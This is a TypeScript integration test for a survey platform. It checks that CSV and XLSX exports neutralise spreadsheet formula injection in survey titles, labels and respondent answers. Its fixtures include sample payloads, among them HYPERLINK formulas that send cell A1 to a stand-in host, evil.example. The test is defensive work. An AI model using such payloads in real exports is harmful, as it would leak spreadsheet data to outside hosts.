import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTokenOverHttp, setUpOverHttp, signUpOverHttp } from '../helpers/accounts';
import type { HttpClient } from '../helpers/http';
import { createScratchDatabase, postgresAvailable } from '../helpers/postgres';
import { respondentAnswers } from '../helpers/responses';
import { buildCsv, generateResponses } from '../helpers/responses-csv';
import { startServer, type RunningServer } from '../helpers/server';
import { publishOverHttp } from '../helpers/survey-http';

const DATABASES = (await postgresAvailable()) ? (['sqlite', 'postgres'] as const) : (['sqlite'] as const);

const TITLE = '=HYPERLINK("http://evil.example/?t="&A1,"Campagne")';
const ORGANISATION = '@SUM(1,2) Sahel Info';
const REGION = '-Tambacounda';
const LABEL = '=1+1 Autre chose ?';
const OPTION_LABEL = '+33 6 12 34 56 78';

const QUESTIONS = [
	{ code: 'comment', type: 'long_text', label: { fr: LABEL, ar: LABEL } },
	{
		code: 'choice',
		type: 'single',
		label: { fr: 'Choix', ar: 'اختيار' },
		options: [
			{ code: '-1', label: { fr: OPTION_LABEL, ar: OPTION_LABEL } },
			{ code: 'x', label: { fr: '@x', ar: '@x' } }
		]
	},
	{ code: 'count', type: 'integer', label: { fr: 'Combien ?', ar: 'كم؟' }, min: -10, max: 10 }
];

/**
 * Text answers sent, as stored (trimmed, line breaks as \n), and as the CSV writes them. A tab, carriage return or
 * line feed before the text cannot reach the database (answers are trimmed): the unit tests of the writer have those.
 */
const ANSWERS: [sent: string, stored: string, written: string][] = [
	[
		'=HYPERLINK("http://evil.example/?d="&A1,"click")',
		'=HYPERLINK("http://evil.example/?d="&A1,"click")',
		`'=HYPERLINK("http://evil.example/?d="&A1,"click")`
	],
	['+1+1', '+1+1', "'+1+1"],
	['-2+3', '-2+3', "'-2+3"],
	['@SUM(A1:A9)', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
	['\t=1+1', '=1+1', "'=1+1"],
	['\r@x', '@x', "'@x"],
	['＝1+1', '＝1+1', "'＝1+1"],
	['line one\nline two', 'line one\nline two', 'line one\nline two'],
	['line one\r\n=line two', 'line one\n=line two', 'line one\n=line two'],
	['He said "no", then; left\tat once', 'He said "no", then; left\tat once', 'He said "no", then; left\tat once'],
	["'=already quoted", "'=already quoted", "''=already quoted"],
	['-0.5', '-0.5', '-0.5']
];

/** A spreadsheet's reading: any line break outside quotes ends a row, a row must have the header's length, quotes must be balanced. */
function readCsv(bytes: ArrayBuffer): string[][] {
	const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
	expect(text.charCodeAt(0)).toBe(0xfeff);
	return parse(text.slice(1), {
		record_delimiter: ['\r\n', '\n', '\r'],
		relax_column_count: false,
		relax_quotes: false,
		skip_empty_lines: false
	}) as string[][];
}

/** Whether a spreadsheet would take a cell for a formula: OWASP's first characters, or a sign after spaces; numbers aside. */
const runnable = (cell: string) =>
	/^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);

function expectSafe(rows: string[][]): void {
	const width = rows[0].length;
	for (const [index, row] of rows.entries()) {
		expect(row, `row ${index + 1}`).toHaveLength(width);
		for (const cell of row) expect(runnable(cell), `row ${index + 1}: ${JSON.stringify(cell)}`).toBe(false);
	}
}

function expectNoFormula(workbook: ExcelJS.Workbook): void {
	for (const sheet of workbook.worksheets) {
		sheet.eachRow((row) =>
			row.eachCell((cell) => expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula))
		);
	}
}

describe.each(DATABASES)('exports of hostile text, read by spreadsheets and imported back, on %s', (database) => {
	let server: RunningServer;
	let drop: (() => Promise<void>) | undefined;
	let owner: string;
	let donor: string;
	let donorClient: HttpClient;
	let campaignId: string;
	let total: number;

	const call = (path: string, as: string, init: RequestInit = {}) =>
		fetch(`${server.url}/api/v1${path}`, {
			...init,
			headers: { authorization: `Bearer ${as}`, ...(init.headers ?? {}) }
		});
	const importCsv = (id: string, wave: string, body: string | ArrayBuffer, query = '') =>
		call(`/campaigns/${id}/responses/import?wave=${wave}&group=exposed&language=fr${query}`, owner, {
			method: 'POST',
			headers: { 'content-type': 'text/csv' },
			body
		});
	const publish = (title: string) =>
		publishOverHttp(
			server.url,
			owner,
			{
				title,
				regions: [
					{ code: 'tamba', name: REGION },
					{ code: 'kolda', name: 'Kolda' }
				]
			},
			QUESTIONS
		);

	beforeAll(async () => {
		const scratch = database === 'postgres' ? await createScratchDatabase() : null;
		drop = scratch?.drop;
		server = await startServer(scratch ? { DATABASE_URL: scratch.url } : {});
		owner = await createTokenOverHttp(await setUpOverHttp(server.url, 'owner@example.org', ORGANISATION));
		donorClient = await signUpOverHttp(server.url, 'donor@example.org', 'Fonds Sahel', 'donor');
		donor = await createTokenOverHttp(donorClient);
		const published = await publish(TITLE);
		campaignId = published.campaignId;
		// Enough respondents in both waves for the comparison to show the campaign.
		expect((await importCsv(campaignId, 'baseline', buildCsv(generateResponses(40, 'uuid:base')))).status).toBe(200);
		expect((await importCsv(campaignId, 'endline', buildCsv(generateResponses(40, 'uuid:end')))).status).toBe(200);
		const collect = (clientId: string, answers: Record<string, unknown>) =>
			fetch(`${server.url}/api/v1/collect/${published.link('baseline', 'exposed').token}/responses`, {
				method: 'POST',
				headers: { 'content-type': 'application/json', origin: server.url },
				body: JSON.stringify({ clientId, language: 'fr', answers: respondentAnswers(answers) })
			});
		for (const [index, [sent]] of ANSWERS.entries())
			expect((await collect(`hostile-${String(index).padStart(3, '0')}`, { comment: sent })).status).toBe(201);
		expect((await collect('numbers-000', { choice: '-1', count: -5 })).status).toBe(201);
		total = 80 + ANSWERS.length + 1;
		const donorOrganisation = (await (await call('/organisations', donor)).json()).organisations[0].id;
		expect(
			(
				await call(`/campaigns/${campaignId}/shares`, owner, {
					method: 'POST',
					headers: { 'content-type': 'application/json' },
					body: JSON.stringify({ organisationId: donorOrganisation })
				})
			).status
		).toBe(200);
	}, 120_000);
	afterAll(async () => {
		await server?.stop();
		await drop?.();
	});

	const download = async (path: string, as = owner): Promise<ArrayBuffer> => {
		const response = await call(path, as);
		expect(response.status, path).toBe(200);
		return response.arrayBuffer();
	};
	const byClientId = (rows: string[][]) => new Map(rows.slice(1).map((row) => [row[0], row]));

	it('writes responses.csv whole, formula-looking answers behind a quote, numbers as numbers', async () => {
		const rows = readCsv(await download(`/campaigns/${campaignId}/responses.csv?hxl=1`));
		expectSafe(rows);
		expect(rows).toHaveLength(total + 2);
		const [header] = rows;
		const answers = byClientId(rows.slice(1));
		for (const [index, [, , written]] of ANSWERS.entries()) {
			expect(answers.get(`hostile-${String(index).padStart(3, '0')}`)![header.indexOf('comment')]).toBe(written);
		}
		const numbers = answers.get('numbers-000')!;
		expect([numbers[header.indexOf('choice')], numbers[header.indexOf('count')]]).toEqual(['-1', '-5']);
	});

	it('writes codebook.csv whole, a label beginning with = behind a quote', async () => {
		const rows = readCsv(await download(`/campaigns/${campaignId}/codebook.csv?lang=fr`));
		expectSafe(rows);
		// The same rows as the XLSX codebook, where no line break can split one (the core labels hold some).
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(await download(`/campaigns/${campaignId}/responses.xlsx?lang=fr`));
		expect(rows).toHaveLength(workbook.getWorksheet('codebook')!.actualRowCount);
		expect(rows.some((row) => row[1].includes('\n'))).toBe(true);
		expect(rows[0]).toEqual(['variable', 'label', 'type', 'value', 'value_label', 'repeat_group']);
		expect(rows).toContainEqual(['comment', `'${LABEL}`, 'text', '', '', '']);
		expect(rows).toContainEqual(['choice', '', '', '-1', `'${OPTION_LABEL}`, '']);
		expect(rows).toContainEqual(['choice', '', '', 'x', "'@x", '']);
		expect(rows).toContainEqual(['D3', '', '', 'tamba', `'${REGION}`, '']);
	});

	it('gives the donor a comparison table.csv and an indicators.csv with the title behind a quote, changes as numbers', async () => {
		const response = await donorClient.get('/compare/table.csv');
		expect(response.status).toBe(200);
		const table = readCsv(await response.arrayBuffer());
		expectSafe(table);
		expect(table).toHaveLength(2);
		const [header, row] = table;
		expect(row[header.indexOf('campaign')]).toBe(`'${TITLE}`);
		expect(row[header.indexOf('organisation')]).toBe(`'${ORGANISATION}`);
		expect(Number.isFinite(Number(row[header.indexOf('change')]))).toBe(true);
		// The same table for a token, as a pipeline pulls it.
		expect(readCsv(await download('/compare.csv', donor))).toEqual(table);
		const indicators = readCsv(await download(`/campaigns/${campaignId}/indicators.csv`, donor));
		expectSafe(indicators);
		const value = indicators[0].indexOf('value');
		// Changes of a share can fall: a negative number is written as one.
		expect(indicators.slice(1).some((cells) => /^-\d/.test(cells[value]))).toBe(true);
	});

	it('writes the same text in XLSX as strings, never formulas, without the quote', async () => {
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(await download(`/campaigns/${campaignId}/responses.xlsx?lang=fr`));
		expectNoFormula(workbook);
		const sheet = workbook.getWorksheet('responses')!;
		const header = sheet.getRow(1).values as string[];
		const comments = new Map<string, ExcelJS.Cell>();
		sheet.eachRow(
			(row, number) => number > 1 && comments.set(String(row.getCell(1).value), row.getCell(header.indexOf('comment')))
		);
		for (const [index, [, stored]] of ANSWERS.entries()) {
			const cell = comments.get(`hostile-${String(index).padStart(3, '0')}`)!;
			expect([cell.type, cell.value]).toEqual([ExcelJS.ValueType.String, stored]);
		}
		const labels = workbook.getWorksheet('codebook')!.getColumn(2).values;
		expect(labels).toContain(LABEL);
		expect(labels).not.toContain(`'${LABEL}`);
		const indicators = new ExcelJS.Workbook();
		await indicators.xlsx.load(await download(`/campaigns/${campaignId}/indicators.xlsx`, donor));
		expectNoFormula(indicators);
	});

	it('imports its own responses.csv back into another campaign with the same answers', async () => {
		const exported = await download(`/campaigns/${campaignId}/responses.csv`);
		const other = await publish('Re-import');
		// Each wave's rows through its own link: a row of the other wave is a problem of its line, never moved.
		const whole = await importCsv(other.campaignId, 'baseline', exported);
		expect(whole.status).toBe(422);
		const endline = (await whole.json()).error.problems.filter(
			(problem: { code: string }) => problem.code === 'wave_not_link'
		);
		expect(endline.length).toBeGreaterThan(0);
		let stored = 0;
		for (const wave of ['baseline', 'endline']) {
			const imported = await importCsv(other.campaignId, wave, exported, '&skipInvalid=1');
			const report = await imported.json();
			expect(imported.status, JSON.stringify(report.problems)).toBe(200);
			expect(report.problems.every((problem: { code: string }) => problem.code === 'wave_not_link')).toBe(true);
			stored += report.toImport;
		}
		expect(stored).toBe(total);
		const before = readCsv(exported);
		const after = readCsv(await download(`/campaigns/${other.campaignId}/responses.csv`));
		expect(after[0]).toEqual(before[0]);
		// The answers, the language, the times, the wave and the group; the mode is the import's.
		const kept = before[0].flatMap((column, index) => (['mode'].includes(column) ? [] : [index]));
		const again = byClientId(after);
		for (const row of before.slice(1))
			expect(kept.map((index) => again.get(row[0])?.[index])).toEqual(kept.map((index) => row[index]));
		expect(again.size).toBe(total);
	});
});
